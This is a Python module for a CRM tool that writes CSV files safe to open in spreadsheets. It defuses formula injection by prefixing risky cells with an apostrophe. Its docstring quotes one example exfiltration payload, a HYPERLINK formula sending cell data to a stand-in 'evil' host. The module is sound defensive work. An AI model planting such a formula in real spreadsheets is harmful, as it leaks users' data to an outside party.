"""CSV that is safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before looking) is read as a formula by Excel, LibreOffice
and Google Sheets: a partner named ``=HYPERLINK("http://evil/?"&A1, "click")`` would
leak the sheet. Every CSV crm writes prefixes such a cell with an apostrophe, the
mark spreadsheets take for "text" (OWASP's advice); numbers (``-12.50``) are left
alone. ``crm export csv --raw`` writes the values exactly, for programs.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?\Z")


def defuse(cell: str) -> str:
    """``cell``, or ``'cell`` when a spreadsheet would read it as a formula."""
    if cell.startswith(FORMULA_START) and _NUMBER.match(cell) is None:
        return "'" + cell
    return cell


class Writer:
    """``csv.writer`` with every cell passed through :func:`defuse` (unless ``raw``)."""

    def __init__(self, stream: Any, *, raw: bool = False) -> None:
        self._writer = csv.writer(stream, lineterminator="\n")
        self._raw = raw

    def writerow(self, row: Iterable[Any]) -> None:
        cells = ["" if cell is None else str(cell) for cell in row]
        self._writer.writerow(cells if self._raw else [defuse(cell) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
